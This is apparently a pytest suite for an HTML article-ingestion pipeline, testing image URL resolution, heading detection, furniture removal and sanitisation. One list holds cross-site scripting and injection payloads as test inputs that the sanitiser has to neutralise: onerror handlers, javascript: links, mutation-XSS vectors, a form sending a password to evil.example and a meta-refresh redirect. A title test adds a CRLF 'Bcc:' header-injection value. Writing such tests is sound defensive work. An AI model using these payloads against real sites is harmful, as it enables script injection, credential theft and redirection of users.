"""Whole saved pages: the article is found in them, its pictures keep their addresses, and nothing dangerous comes along."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from selectolax.lexbor import LexborHTMLParser

from pipeline.ingest import files, html, inline
from pipeline.ingest.elements import Heading
from pipeline.model import Article, Block, Dropped
from tests.ingest.reading import everything, read

STRANGERS = Path(__file__).parent / "strangers"
PAGES = [
    path
    for path in sorted(STRANGERS.glob("*.htm*"))
    if "never:" in path.with_name(f"{path.stem}.expected.yaml").read_text()
]
PAGE = "https://garden.example/2026/soil/"


def blocks_of(article: Article) -> list[Block]:
    return [*article.lead, *(block for section in article.sections for block in section.blocks)]


@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.name)
def test_a_page_keeps_its_pictures_and_leaves_its_furniture(path: Path) -> None:
    wanted = yaml.safe_load(path.with_name(f"{path.stem}.expected.yaml").read_text(encoding="utf-8"))
    (article,) = files.articles(path)
    shown = [(block.text, block.url, block.html) for block in blocks_of(article) if block.kind == "image"]
    assert shown == [(one["alt"], one["url"], one.get("caption", "")) for one in wanted["images"]]
    told = "\n".join([*(block.text for block in blocks_of(article)), *(point.text for point in article.key_points)])
    assert [words for words in wanted["never"] if words in told] == []
    assert (article.byline, article.summary) == (wanted["author"], wanted.get("summary", article.summary))
    calls = wanted.get("calls_to_action", [])
    assert [(call.text, call.url) for call in article.calls_to_action] == [
        (call["text"], call["url"]) for call in calls
    ]


# What a page says of a picture's address, and the address that is meant.
ADDRESSES = [
    ("<img src='root.png' alt=A>", "https://garden.example/2026/soil/root.png"),
    ("<img src='/root.png' alt=A>", "https://garden.example/root.png"),
    ("<img src='//cdn.example/root.png' alt=A>", "https://cdn.example/root.png"),
    ("<img srcset='/s.png 300w, /l.png 1200w' alt=A>", "https://garden.example/l.png"),
    ("<img src='data:image/gif;base64,R0' data-srcset='/s.png 1x, /l.png 2x' alt=A>", "https://garden.example/l.png"),
    ("<img data-lazy-src='/lazy.png' src='data:image/svg+xml,%3Csvg' alt=A>", "https://garden.example/lazy.png"),
    ("<picture><source srcset='/big.avif 2x, /small.avif 1x'><img alt=A></picture>", "https://garden.example/big.avif"),
    ("<picture><source srcset='/big.avif'><img src=/plain.jpg alt=A></picture>", "https://garden.example/plain.jpg"),
    ("<img src='__CDN_URL__/a.png' data-src='/true.png' alt=A>", "https://garden.example/true.png"),
    ("<img srcset='https://cdn.example/w_300,c_fit/a.png 300w, https://cdn.example/w_900,c_fit/a.png 900w' alt=A>", "https://cdn.example/w_900,c_fit/a.png"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "url"), ADDRESSES, ids=[row[0][:50] for row in ADDRESSES])
def test_a_picture_is_shown_by_the_address_that_is_meant(source: str, url: str) -> None:
    (shown,) = html.read(f"<p>Soil.</p>{source}", PAGE).elements[1:]
    assert isinstance(shown, Block)
    assert (shown.kind, shown.text, shown.url) == ("image", "A", url)


def test_the_picture_that_a_page_states_for_networks_stands_above_an_article_without_one() -> None:
    head = '<meta property="og:image" content="/share.jpg"><meta property="og:image:alt" content="A bed of peas">'
    assert html.read(f"{head}<article><p>Soil.</p></article>", PAGE).elements[0] == Block(
        "image", "A bed of peas", url="https://garden.example/share.jpg"
    )
    own = '<header><img src="/own.jpg" alt="A root"></header>'
    article = f"{head}<article>{own}<div class=entry-content><p>Soil.</p></div></article>"
    assert html.read(article, PAGE).elements[0] == Block("image", "A root", url="https://garden.example/own.jpg")
    assert html.read('<meta property="og:image" content="/share.jpg"><p>Soil.</p>', PAGE).elements[0].text == "Soil."


def test_a_base_address_is_where_relative_ones_begin() -> None:
    source = '<head><base href="/files/"></head><p><a href="a.pdf">Soil</a> is alive.</p><img src=b.png alt=Root>'
    document = html.read(source, PAGE)
    assert document.url == PAGE
    assert [one.html or one.url for one in document.elements if isinstance(one, Block)] == [
        '<a href="https://garden.example/files/a.pdf">Soil</a> is alive.',
        "https://garden.example/files/b.png",
    ]


def test_the_title_of_a_page_without_headings_is_what_it_shows_of_its_title() -> None:
    page = "<title>Garden club - Soil in winter</title><body><center><b>Garden club</b></center><br><br><b>Soil in winter</b><br>It sleeps."
    document = html.read(page)
    assert document.title == "Soil in winter"
    assert document.elements == (
        Heading("Soil in winter", 2, sure=False),
        Block("paragraph", "It sleeps.", "It sleeps."),
    )
    assert document.dropped == (Dropped("Garden club", "above the title on the page"),)


def test_a_bold_line_is_a_heading_only_where_none_is_marked() -> None:
    bold = "<p><strong>How deep?</strong></p><p>Two inches.</p>"
    assert html.read(bold).elements[0] == Heading("How deep?", 2, sure=False)
    assert isinstance(html.read(f"{bold}<h2>Water</h2><p>Little.</p>").elements[0], Block)


@pytest.mark.parametrize("bold", ["Never dig wet soil.", "Soil,", "Anna Berg:", "Dig " * 14])
def test_a_bold_sentence_is_text(bold: str) -> None:
    assert isinstance(html.read(f"<p><b>{bold}</b></p><p>Two inches.</p>").elements[0], Block)


# What authors' pages hold that must do nothing, and what is left of it.
EVIL = [
    ("<p>Soil <img src=x onerror=alert(1)>is alive.</p>", "Soil is alive."),
    ("<p>Soil is alive.<svg/onload=alert(1)></p>", "Soil is alive."),
    ("<p><a href='javascript:alert(1)'>Soil</a> is alive.</p>", "Soil is alive."),
    ("<p><a href='JaVa&#10;Script:alert(1)'>Soil</a> is alive.</p>", "Soil is alive."),
    ("<p><a href='data:text/html,<script>alert(1)</script>'>Soil</a> is alive.</p>", "Soil is alive."),
    ("<p><a href='vbscript:x'>Soil</a> is alive.</p>", "Soil is alive."),
    ("<p><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>Soil is alive.</p>", "Soil is alive."),
    ("<p><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></mtext></math>Soil is alive.</p>", "Soil is alive."),
    ("<form action='https://evil.example'><input name=password></form><p>Soil is alive.</p>", "Soil is alive."),
    ("<style>p{}</style><p>Soil is alive.</p><style>x</style></style><script>alert(1)</script>", "Soil is alive."),
    ("<p style='position:fixed;top:0'>Soil is <b style='position:fixed' class=x id=y>alive</b>.</p>", "Soil is <strong>alive</strong>."),
    ("<meta http-equiv=refresh content='0;url=https://evil.example'><p>Soil is alive.</p>", "Soil is alive."),
    ("<link rel=stylesheet href=http://127.0.0.1/><p>Soil is alive.</p>", "Soil is alive."),
    ("<p><a href='//evil.example/x' target=_blank onclick=a()>Soil</a> is alive.</p>", '<a href="https://evil.example/x">Soil</a> is alive.'),
    ("<p>Soil is alive.</p><img src='https://stats.example/p.gif' width=1 height=1>", "Soil is alive."),
    ("<p>Soil &lt;script&gt;is alive.</p>", "Soil &lt;script&gt;is alive."),
    ("<p>*|FNAME|* {{ subscriber.email }} %%name%% is alive.</p>", "*|FNAME|* {{ subscriber.email }} %%name%% is alive."),
    ("<p><object data='https://evil.example/x.swf'><embed src=x></object>Soil is alive.</p>", "Soil is alive."),
    ("<p><a href='https://bank.example&quot; onclick=&quot;x'>Soil</a> is alive.</p>", None),
]  # fmt: skip


@pytest.mark.parametrize(("source", "left"), EVIL, ids=[row[0][:40] for row in EVIL])
def test_what_could_do_harm_is_gone_and_the_words_stay(source: str, left: str | None) -> None:
    document = html.read(f"<body>{source}", PAGE)
    texts = [one.html for one in document.elements if isinstance(one, Block) and one.kind == "paragraph"]
    assert left is None or texts == [left]
    for text in texts:
        for node in LexborHTMLParser(f"<body>{text}").body.iter():  # type: ignore[union-attr]
            assert node.tag in inline.ALLOWED
            assert set(node.attributes) <= {"href"}
            assert re.match(r"https?://|mailto:", node.attributes.get("href") or "https://")


def test_a_base_address_of_another_scheme_leads_nowhere() -> None:
    document = html.read("<base href='javascript:alert(1)//'><p><a href='x'>Soil</a> is alive.</p>", PAGE)
    assert [one.html for one in document.elements if isinstance(one, Block)] == [
        f'<a href="{PAGE}x">Soil</a> is alive.'
    ]


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\ufeff", "\r\nBcc: a@b.example"])
def test_a_title_is_one_line_that_shows_what_it_says(hidden: str) -> None:
    title = read(f"<title>Soil{hidden} is alive</title><p>It breathes, and it shows.</p>", "html").title
    assert title.isprintable()
    assert title in {"Soil is alive", "Soil Bcc: a@b.example is alive"}


@pytest.mark.parametrize(
    "furniture",
    [
        '<div class="cookie-banner">We use cookies.</div>',
        '<div class="addtoany_share_save_container"><a href="/x">Share it</a></div>',
        '<section class="newsletter-signup"><h2>Get our letter</h2><p>Every week.</p></section>',
        '<div class="yarpp-related"><h3>More like it</h3><ul><li>Peat</li></ul></div>',
        '<div class="post-navigation"><a href="/x">Next post</a></div>',
        '<div class="author-bio"><p>Ann digs.</p></div>',
        '<div class="breadcrumb"><a href="/">Home</a> › Soil</div>',
        '<div id="disqus_thread">Comments are closed.</div>',
        '<div class="popup-overlay" hidden><p>Ten per cent off.</p></div>',
        '<div class="post-tags">Tags: soil</div>',
    ],
)
def test_furniture_inside_the_article_is_dropped_with_a_reason(furniture: str) -> None:
    article = read(
        f"<article><h1>Soil</h1><p>Soil is alive, and it shows.</p>{furniture}<p>It breathes.</p></article>", "html"
    )
    assert [block.text for block in blocks_of(article)] == ["Soil is alive, and it shows.", "It breathes."]
    words = re.findall(r"[A-Za-z]{4,}", re.sub(r"<[^>]*>", " ", furniture))
    assert [word for word in words if word not in everything(article)] == []


@pytest.mark.parametrize(
    "attributes",
    [
        'id="chocolate-cookies"',  # as site builders name headings
        'id="informed-consent"',
        'id="related-sidebar"',
        'class="recipe-cookies"',
        'class="post category-advertising tag-related-work tag-cookies"',
    ],
)
def test_what_an_article_is_about_makes_no_furniture_of_it(attributes: str) -> None:
    page = (
        f"<article><h1>Baking</h1><p>Bake.</p><section {attributes}><h2 {attributes}>A part</h2><p>Rest.</p></section>"
    )
    read = html.read(f"<html><body>{page}</article></body></html>")
    assert [element.text for element in read.elements][1:] == ["Bake.", "A part", "Rest."]
    assert read.dropped == ()


@pytest.mark.parametrize(
    "name", ["cookie-notice", "cookieconsent", "site-cookie_bar", "gdpr-cookie", "CybotCookiebotDialog"]
)
def test_a_banner_about_cookies_is_furniture(name: str) -> None:
    read = html.read(f'<html><body><div id="{name}"><p>Fine by you?</p></div><article><h1>A</h1><p>Bake.</p></article>')
    assert [(piece.text, piece.reason) for piece in read.dropped] == [("Fine by you?", "cookie notice")]


@pytest.mark.parametrize("name", ["comments", "sidebar", "footer"])
def test_a_heading_whose_id_is_made_of_its_words_is_a_heading(name: str) -> None:
    read = html.read(f'<article><h1>A</h1><p>Bake.</p><h2 id="{name}">A {name}</h2><p>Rest.</p></article>')
    assert [element.text for element in read.elements] == ["A", "Bake.", f"A {name}", "Rest."]
